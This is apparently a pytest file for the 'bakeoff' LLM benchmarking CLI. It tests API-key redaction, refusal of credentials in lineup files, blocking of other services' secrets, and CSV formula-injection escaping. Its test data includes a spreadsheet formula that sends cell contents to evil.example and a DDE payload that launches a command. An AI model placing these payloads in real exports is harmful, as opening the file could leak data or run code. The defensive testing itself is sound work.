"""Keys and what bakeoff writes (issue #31 items 5, 7, 8; issue #32 item 9), each driven as a user
would: the CLI against the fake provider or a hostile loopback server. Each fails on 47c28c3."""

from __future__ import annotations

import csv
import http.server
import json
import os
import sqlite3
import threading
from collections.abc import Iterator
from pathlib import Path

import pytest

from bakeoff.lineups import LineupError, keys, parse_lineup
from bakeoff.store import MIN_REDACTABLE, WITHHELD
from bakeoff.suites.datasets import DatasetError, read_records
from conftest import bakeoff

EVIL = "sk-evil-SECRET-123"  # the key: 18 characters


def _db_bytes(tmp_path: Path, name: str = "b.db") -> bytes:
    return b"".join(p.read_bytes() for p in tmp_path.iterdir() if p.name.startswith(name))


# -- item 5: redaction that never rewrites data ----------------------------------------------------


def test_a_short_key_rewrites_no_stored_lineup_or_output(tmp_path):
    """`LOCAL_KEY=x` once turned the stored lineup into `ma***_tokens` (the next `--resume` died in
    a pydantic traceback); key `EMPTY` turned the reply `Nothing is EMPTY here` into `Nothing is
    *** here`, for good. Both are stored as they were; the resumed run reads its lineup back."""
    reply = "Nothing is EMPTY here, max_tokens x"
    lu = tmp_path / "l.yaml"
    lu.write_text(
        "defaults: {max_tokens: 8}\nrun: {suites: [arith], limit: 2, probe: false}\n"
        "endpoints:\n  - {name: ep, provider: fake, api_key_env: LOCAL_KEY, extra_body: {x: 1},"
        f" fake: {{mode: fixed, reply: '{reply}'}}}}\n"
    )
    for key in ("x", "EMPTY"):
        db = tmp_path / f"{key}.db"
        env = {"LOCAL_KEY": key}
        r = bakeoff("run", "-c", str(lu), "--db", str(db), "--no-report", "--json", env=env)
        assert r.returncode == 0, r.stderr
        con = sqlite3.connect(db)
        stored = json.loads(con.execute("SELECT lineup_json FROM runs").fetchone()[0])
        assert stored["defaults"]["max_tokens"] == 8 and stored["endpoints"][0]["extra_body"]
        outputs = {row[0] for row in con.execute("SELECT output_text FROM calls")}
        assert outputs == {reply}
        config = con.execute("SELECT config_json FROM endpoints").fetchone()[0]
        assert '"extra_body":{"x":1}' in config
        con.close()
        run_id = json.loads(r.stdout)["run_id"]
        again = bakeoff("run", "--resume", run_id, "--db", str(db), "--no-report", env=env)
        assert again.returncode == 0, again.stderr
        assert "Traceback" not in again.stderr


class _Echo(http.server.BaseHTTPRequestHandler):
    """An OpenAI-compatible server that lists its model and answers chat, but answers every other
    POST (the reference scorer's routes) 401 with the Authorization header it got, as some
    gateways do."""

    def _send(self, status: int, body: dict) -> None:
        data = json.dumps(body).encode()
        self.send_response(status)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(data)))
        self.end_headers()
        self.wfile.write(data)

    def do_GET(self) -> None:
        self._send(200, {"data": [{"id": "m"}]})

    def do_POST(self) -> None:
        self.rfile.read(int(self.headers.get("Content-Length") or 0))
        auth = self.headers.get("Authorization", "")
        if self.path.endswith("/chat/completions") and not self.server.refuse_chat:  # type: ignore[attr-defined]
            msg = {"role": "assistant", "content": "The capital of France is Paris."}
            self._send(
                200,
                {
                    "id": "c",
                    "object": "chat.completion",
                    "model": "m",
                    "choices": [{"index": 0, "message": msg, "finish_reason": "stop"}],
                    "usage": {"prompt_tokens": 5, "completion_tokens": 7, "total_tokens": 12},
                },
            )
            return
        self._send(401, {"error": {"message": f"unauthorized: got {auth}"}})

    def log_message(self, *a: object) -> None:
        pass


@pytest.fixture
def echo_server() -> Iterator[http.server.ThreadingHTTPServer]:
    srv = http.server.ThreadingHTTPServer(("127.0.0.1", 0), _Echo)
    srv.refuse_chat = False  # type: ignore[attr-defined]
    threading.Thread(target=srv.serve_forever, daemon=True).start()
    yield srv
    srv.shutdown()
    srv.server_close()


@pytest.mark.parametrize("key", [EVIL, "EMPTY"])
def test_a_scorer_error_body_echoing_the_key_is_printed_without_it(tmp_path, echo_server, key):
    """Item 7(a): the reference scorer's 401 body `unauthorized: got Bearer sk-evil-SECRET-123`
    was printed on stderr as it came (CI logs are often public). The message is printed, the key
    in it is `***` (a short key too, where it stands as a word)."""
    url = f"http://127.0.0.1:{echo_server.server_port}/v1"
    lu = tmp_path / "l.yaml"
    lu.write_text(
        "reference: ref\nrun: {suites: [], probe: false}\n"
        "audit: {regimes: [sampled], budget: 2, batch: 2, scorer: endpoint,"
        " scorer_template: '{% for m in messages %}{{ m.content }}{% endfor %}'}\n"
        f"endpoints:\n  - {{name: ref, base_url: '{url}', model: m, api_key_env: EVIL_API_KEY,"
        " stream: false}\n"
        "  - {name: other, provider: fake, fake: {mode: fixed, reply: 'Paris.'}}\n"
    )
    db = tmp_path / "b.db"
    r = bakeoff("run", "-c", str(lu), "--db", str(db), "--no-report", env={"EVIL_API_KEY": key})
    assert r.returncode != 0 and "401" in r.stderr, r.stderr[-3000:]
    if len(key) >= 8:
        assert "unauthorized: got Bearer ***" in r.stderr
    else:  # too short to redact safely: the body is dropped, not rewritten
        assert "too short to redact" in r.stderr and "unauthorized" not in r.stderr
    assert key not in r.stdout + r.stderr
    assert f"Bearer {key}".encode() not in _db_bytes(tmp_path)


@pytest.mark.parametrize("key", [EVIL, "hunter2"])
def test_a_call_error_body_echoing_the_key_is_redacted_or_withheld(tmp_path, echo_server, key):
    """An endpoint whose 401 body repeats the Authorization header: a long key is `***` in the
    stored error; a key too short to redact safely has the whole body withheld, not rewritten."""
    echo_server.refuse_chat = True
    url = f"http://127.0.0.1:{echo_server.server_port}/v1"
    lu = tmp_path / "l.yaml"
    lu.write_text(
        "run: {suites: [arith], limit: 2, probe: false}\nendpoints:\n"
        f"  - {{name: ep, base_url: '{url}', model: m, api_key_env: EVIL_API_KEY, stream: false,"
        " retry: {max_retries: 0}}\n"
    )
    db = tmp_path / "b.db"
    r = bakeoff(
        "run", "-c", str(lu), "--db", str(db), "--no-report", "--no-preflight",
        env={"EVIL_API_KEY": key},
    )  # fmt: skip
    assert key not in r.stdout + r.stderr
    assert f"Bearer {key}".encode() not in _db_bytes(tmp_path)
    con = sqlite3.connect(db)
    raws = {row[0] for row in con.execute("SELECT response_raw FROM calls WHERE status='error'")}
    assert raws, r.stderr[-2000:]
    if len(key) >= MIN_REDACTABLE:
        assert all("unauthorized: got Bearer ***" in raw for raw in raws), raws
    else:
        assert raws == {WITHHELD}


# -- item 7(b), 7(c), #32 item 9: the one validator for keys in lineups ----------------------------


# fake keys, assembled here so that no key-shaped literal stands in the repository (secret
# scanners flag them); the values the tests see are the same
_FAKE = "abcdef0123456789"
_SK = "sk" + "-" + _FAKE + "abcdef"
_GSK = "gsk" + "_" + "0123456789abcdef0123456789"


@pytest.mark.parametrize(
    "url",
    [
        f"http://bob:{_SK}@host/v1",
        f"http://{_SK}@host/v1",
        f"https://host/v1?api_key={_SK}",
        f"https://host/v1?x={_GSK}",
    ],
)
def test_a_credential_in_base_url_is_refused_without_echoing_it(tmp_path, url):
    lu = tmp_path / "l.yaml"
    lu.write_text(f"run: {{suites: [arith]}}\nendpoints:\n  - name: a\n    base_url: '{url}'\n")
    db = tmp_path / "b.db"
    r = bakeoff("run", "-c", str(lu), "--db", str(db))
    assert r.returncode == 2 and f"{lu}:4: endpoints[0].base_url:" in r.stderr, r.stderr
    assert "credential" in r.stderr and "abcdef0123456789" not in r.stderr
    assert not db.exists()


@pytest.mark.parametrize(
    "value",
    [
        "gsk" + "_0123456789abcdefABCDEF0123456789",  # Groq: a valid variable name
        "fw" + "_3ZkQ9xW2pL7vN4mR8tY1",  # Fireworks
        "hf" + "_AbCdEfGhIjKlMnOpQrStUvWxYz012345",  # Hugging Face
        "Xk3j9fLq2Zp8Wm4Tn7Rb5Vc1",  # no prefix, as random as a key
        "sk-abc",
    ],
)
def test_a_key_in_api_key_env_is_refused_without_echoing_it(tmp_path, value):
    """#32 item 9: `api_key_env: gsk_...` said `environment variable gsk_... is not set`."""
    lu = tmp_path / "l.yaml"
    lu.write_text(
        f"endpoints:\n  - name: a\n    base_url: http://127.0.0.1:9/v1\n    api_key_env: {value}\n"
    )
    r = bakeoff("run", "-c", str(lu), "--db", str(tmp_path / "b.db"))
    assert r.returncode == 2 and f"{lu}:4: endpoints[0].api_key_env:" in r.stderr, r.stderr
    assert "literal keys are refused" in r.stderr and value not in r.stderr


@pytest.mark.parametrize(
    "name", ["OPENROUTER_API_KEY", "BAKEOFF_TEST_KEY", "HF_TOKEN", "MY_VLLM_KEY", "VLLM_API_KEY"]
)
def test_names_of_llm_keys_are_not_taken_for_keys(name):
    assert keys.key_variable_problem(name) is None


def test_a_prefix_needs_a_keys_length_to_be_a_key():
    assert not keys.looks_like_key("hf_token") and not keys.looks_like_key("ASIA_REGION_KEY")
    assert keys.key_variable_problem("hf_token") is None
    assert keys.looks_like_key("AKIA" + "ABCDEFGHIJKLMNOP")


def test_a_preset_default_or_an_allowed_name_passes_the_name_rule():
    assert keys.key_variable_problem("PLAIN", default="PLAIN") is None
    assert keys.key_variable_problem("GITHUB_TOKEN", allowed={"GITHUB_TOKEN"}) is None
    assert keys.key_variable_problem("HOME") is not None


@pytest.mark.parametrize(
    "name", ["AWS_SECRET_ACCESS_KEY", "GITHUB_TOKEN", "NPM_TOKEN", "DB_PASSWORD", "HOME", "PATH"]
)
def test_other_services_credentials_are_not_llm_keys(name):
    problem = keys.key_variable_problem(name)
    assert problem is not None and f"--allow-env {name}" in problem


@pytest.mark.parametrize("name", ["AWS_SECRET_ACCESS_KEY", "HOME"])
def test_a_lineup_cannot_send_another_services_credential(tmp_path, fake_proc, name):
    """Item 7(c): a colleague's lineup made preflight send `Bearer <AWS_SECRET_ACCESS_KEY>` to its
    own URL without a word. Refused before any request (the server sees none), unless the user
    names the variable: `--allow-env NAME` or `BAKEOFF_ALLOW_ENV`; preflight then says which
    variable goes to which host."""
    log = tmp_path / "srv.jsonl"
    srv = fake_proc(log=log)
    lu = tmp_path / "l.yaml"
    lu.write_text(
        "run: {suites: [arith], limit: 1, probe: false}\n"
        f"endpoints:\n  - {{name: ep, base_url: '{srv.url}', api_key_env: {name}}}\n"
    )
    db = tmp_path / "b.db"
    env = {name: "the-value-of-" + name.lower()}
    r = bakeoff("run", "-c", str(lu), "--db", str(db), "--no-report", env=env)
    assert r.returncode == 2 and "no call was made" in r.stderr, r.stderr
    assert f"api_key_env {name}" in r.stderr and f"--allow-env {name}" in r.stderr
    assert not db.exists() and (not log.exists() or not log.read_text().strip())
    host = srv.url.split("//")[1].split("/")[0]
    r = bakeoff("run", "-c", str(lu), "--db", str(db), "--no-report", "--allow-env", name, env=env)
    assert r.returncode == 0, r.stderr
    assert f"key: endpoint 'ep' sends {name} to {host}" in r.stderr
    r = bakeoff(
        "run", "-c", str(lu), "--db", str(db), "--no-report", "--new",
        env={**env, "BAKEOFF_ALLOW_ENV": f"OTHER, {name}"},
    )  # fmt: skip
    assert r.returncode == 0, r.stderr


def test_the_validator_names_file_line_field_for_every_rule():
    text = "endpoints:\n  - name: a\n    base_url: http://u:p@h/v1\n    api_key_env: 'a b'\n"
    with pytest.raises(LineupError) as e:
        parse_lineup(text, "l.yaml")
    problems = e.value.problems
    assert any(p.startswith("l.yaml:3: endpoints[0].base_url:") for p in problems), problems
    assert any(p.startswith("l.yaml:4: endpoints[0].api_key_env:") for p in problems), problems
    assert all(":p@" not in p for p in problems)


# -- item 8: exports and datasets ------------------------------------------------------------------

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


REPLIES = [FORMULA, "+1+cmd|' /C calc'!A0", "@SUM(1)", "-2+3", "\tx", "\r=1"]


def test_a_csv_export_never_starts_a_cell_with_a_formula(tmp_path):
    """Item 8: `export -f csv` wrote `=HYPERLINK(...)` from a reply as it came; each such cell now
    begins with a quote (OWASP), and JSONL keeps the reply as it was."""
    lu = tmp_path / "l.yaml"
    eps = "".join(
        f"  - {{name: ep{i}, provider: fake, fake: {{mode: fixed, reply: {json.dumps(r)}}}}}\n"
        for i, r in enumerate(REPLIES)
    )
    lu.write_text(f"run: {{suites: [arith], limit: 1, probe: false}}\nendpoints:\n{eps}")
    db = tmp_path / "b.db"
    assert bakeoff("run", "-c", str(lu), "--db", str(db), "--no-report", "-q").returncode == 0
    out = tmp_path / "calls.csv"
    r = bakeoff("export", "last", "--db", str(db), "-f", "csv", "-o", str(out))
    assert r.returncode == 0, r.stderr
    with out.open(newline="", encoding="utf-8") as fh:
        rows = {row["endpoint"]: row for row in csv.DictReader(fh)}
    for i, reply in enumerate(REPLIES):
        assert rows[f"ep{i}"]["output_text"] == "'" + reply
    for row in rows.values():
        for name, cell in row.items():
            plain_number = cell.lstrip("+-").replace(".", "").replace("e", "").isdigit()
            assert plain_number or not cell.startswith(("=", "+", "-", "@", "\t", "\r")), name
    jsonl = tmp_path / "calls.jsonl"
    assert bakeoff("export", "last", "--db", str(db), "-o", str(jsonl)).returncode == 0
    lines = [json.loads(x) for x in jsonl.read_text().splitlines()]
    got = {x["endpoint"]: x["output_text"] for x in lines}
    assert got == {f"ep{i}": r for i, r in enumerate(REPLIES)}  # the data itself: unchanged


def test_a_plain_number_in_a_csv_export_is_left_a_number():
    from bakeoff.runs._export import csv_cell

    assert [csv_cell(v) for v in ("-5", "+1.5e3", "-0.25", -3, None)] == [
        "-5", "+1.5e3", "-0.25", -3, None,
    ]  # fmt: skip
    assert csv_cell("-5 apples") == "'-5 apples" and csv_cell("\r=1") == "'\r=1"


def test_a_dataset_with_a_line_over_the_bound_is_refused_at_its_line(tmp_path):
    from bakeoff.suites._files import MAX_LINE

    data = tmp_path / "d.jsonl"
    with data.open("w") as fh:
        fh.write(json.dumps({"question": "q", "answer": "a"}) + "\n")
        fh.write('{"question": "' + "a" * (MAX_LINE + 10) + '", "answer": "a"}\n')
    lu = tmp_path / "l.yaml"
    lu.write_text(
        "run: {suites: [mine], probe: false}\n"
        f"datasets:\n  - {{name: mine, path: {data}, prompt: '{{{{ question }}}}', target: answer}}\n"
        "endpoints:\n  - {name: ep, provider: fake}\n"
    )
    db = tmp_path / "b.db"
    r = bakeoff("run", "-c", str(lu), "--db", str(db))
    assert r.returncode == 2 and f"{data}:2: the line is longer than {MAX_LINE} bytes" in r.stderr


def test_an_endless_line_is_read_no_further_than_the_bound(tmp_path):
    """A FIFO that never ends its line: refused after the bound, not read until memory runs out
    (on 47c28c3 this read forever)."""
    from bakeoff.suites._files import MAX_LINE

    fifo = tmp_path / "endless.jsonl"
    os.mkfifo(fifo)
    written = [0]

    def feed() -> None:
        try:
            with open(fifo, "wb") as fh:
                fh.write(b'{"question": "')
                while written[0] < 20 * MAX_LINE:  # stops on its own if the reader never does
                    fh.write(b"a" * 65536)
                    written[0] += 65536
        except BrokenPipeError:
            pass

    t = threading.Thread(target=feed, daemon=True)
    t.start()
    with pytest.raises(DatasetError) as e:
        read_records(fifo)
    t.join(30)
    assert f"{fifo}:1: the line is longer than" in str(e.value)
    assert written[0] < 2 * MAX_LINE  # the reader stopped at the bound


@pytest.mark.parametrize("suffix", [".jsonl", ".json", ".csv"])
def test_a_huge_field_is_refused_with_file_and_line(tmp_path, suffix):
    from bakeoff.suites._files import MAX_FIELD

    big = "b" * (MAX_FIELD + 1)
    path = tmp_path / f"d{suffix}"
    if suffix == ".jsonl":
        path.write_text('{"q": "a"}\n' + json.dumps({"q": {"deep": [big]}}) + "\n")
    elif suffix == ".json":
        path.write_text('[\n{"q": "a"},\n' + json.dumps({"q": big}) + "\n]\n")
    else:
        path.write_text(f"q,a\nx,y\n{big},z\n")
    with pytest.raises(DatasetError) as e:
        read_records(path)
    assert f"{path}:" in str(e.value) and ("characters" in str(e.value) or "field" in str(e.value))
    assert ":3:" in str(e.value) or (suffix == ".jsonl" and ":2:" in str(e.value)), str(e.value)
